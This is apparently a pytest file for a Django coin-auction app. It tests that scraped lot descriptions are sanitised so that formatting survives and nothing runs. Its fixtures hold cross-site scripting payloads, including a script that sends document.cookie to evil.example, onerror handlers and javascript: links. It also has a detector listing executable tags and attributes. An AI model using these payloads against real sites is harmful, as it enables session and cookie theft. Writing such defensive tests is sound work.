"""Untrusted text is shown inert: scraped descriptions keep formatting but lose anything that runs."""

import re
from html.parser import HTMLParser

import pytest
from django.template import Context, Template

from auctions.models import AuctionLot
from coinstack.sanitize import external_link_attrs, is_web_url, sanitize_html

HOSTILE_HTML = (
    '<p onclick="steal()">Augustus. <b>AR Denarius</b> (19mm, 3.82 g, 6h).<br>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<img src=x onerror="alert(1)">'
    '<a href="javascript:alert(2)">RIC I 207</a> '
    '<a href="https://www.biddr.com/auctions/savoca/browse?a=6341&l=7813191" target="_blank">lot</a>'
    '<iframe src="https://evil.example/"></iframe><style>body{display:none}</style>'
    '<svg><script>alert(3)</script></svg><form action="https://evil.example/"><input name=p></form>'
    '<span style="position:fixed">Good VF</span><!-- tracker --></p>'
)


class _Inspector(HTMLParser):
    """Collects what a browser would execute: script elements, on* handlers, style attributes, js: URLs."""

    def __init__(self) -> None:
        super().__init__()
        self.findings: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "iframe", "object", "embed", "form", "style", "svg", "img"}:
            self.findings.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.findings.append(f"{tag}[{name}]")
            if (
                name in {"href", "src", "action"}
                and value
                and value.strip().lower().startswith(("javascript:", "data:"))
            ):
                self.findings.append(f"{tag}[{name}={value}]")


def _dangerous(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    return inspector.findings


def test_sanitize_keeps_formatting_and_drops_everything_that_runs():
    clean = sanitize_html(HOSTILE_HTML)
    assert _dangerous(clean) == []
    assert "<b>AR Denarius</b>" in clean
    assert "<br>" in clean
    assert "Good VF" in clean
    assert "document.cookie" not in clean  # script text is dropped, not shown as words
    assert "tracker" not in clean


def test_links_survive_with_safe_rel_and_no_javascript():
    clean = sanitize_html(HOSTILE_HTML)
    links = re.findall(r"<a [^>]*>", clean)
    assert len(links) == 2
    assert all('rel="noopener noreferrer nofollow"' in a for a in links)
    assert 'href="https://www.biddr.com/auctions/savoca/browse?a=6341&amp;l=7813191"' in clean
    assert "target=" not in clean


def test_sanitize_plain_text_and_empty_values():
    assert sanitize_html(None) == ""
    assert sanitize_html("") == ""
    assert sanitize_html("RIC I 207 < RIC I 208 & more") == "RIC I 207 &lt; RIC I 208 &amp; more"


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://coins.ha.com/itm/a/232539-64039.s", True),
        ("http://numismatics.org/ocre/id/ric.1(2).aug.207", True),
        ("javascript:alert(1)", False),
        (" JavaScript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("//evil.example/", False),
        ("https:///nohost", False),
        ("", False),
        (None, False),
        ("http://[::1", False),
    ],
)
def test_only_web_urls_become_links(url, expected):
    assert is_web_url(url) is expected
    assert (str(external_link_attrs(url)) != "") is expected


def test_external_link_attrs_escapes_quotes():
    attrs = str(external_link_attrs('https://x.example/?q="><script>'))
    assert "<script>" not in attrs
    assert attrs.startswith('href="https://x.example/?q=&quot;&gt;&lt;script&gt;"')


def test_template_filters():
    template = Template("{% load safety %}{{ html|sanitize }}|<a {{ url|external_link_attrs }}>x</a>")
    out = template.render(Context({"html": HOSTILE_HTML, "url": "javascript:alert(1)"}))
    assert _dangerous(out) == []
    assert "<b>AR Denarius</b>" in out
    assert out.endswith("|<a >x</a>")


@pytest.mark.django_db
def test_scraped_lot_page_shows_hostile_description_inert(client, collector):
    lot = AuctionLot.objects.create(
        url="https://www.numisbids.com/n.php?p=lot&sid=4242&lot=121",
        lot_number="121",
        title='Augustus denarius <script>alert("title")</script>',
        description=(
            'Augustus. AR Denarius. <script>alert("plain")</script><img src=x onerror=alert(1)> Lugdunum.'
        ),
        description_html=HOSTILE_HTML,
    )
    client.force_login(collector)
    response = client.get(lot.get_absolute_url())
    assert response.status_code == 200
    html = response.content.decode()
    body = html[html.index("<body") :]
    # Whatever the template shows of the title and description, none of it may run.
    assert 'alert("title")</script>' not in body
    assert 'alert("plain")</script>' not in body
    assert "onerror=alert" not in body
    assert 'onerror="alert' not in body
    assert "javascript:alert" not in body
    assert "evil.example" not in body
    assert "Augustus denarius" in body  # the page did show the lot...
    assert "AR Denarius" in body  # ...and its description
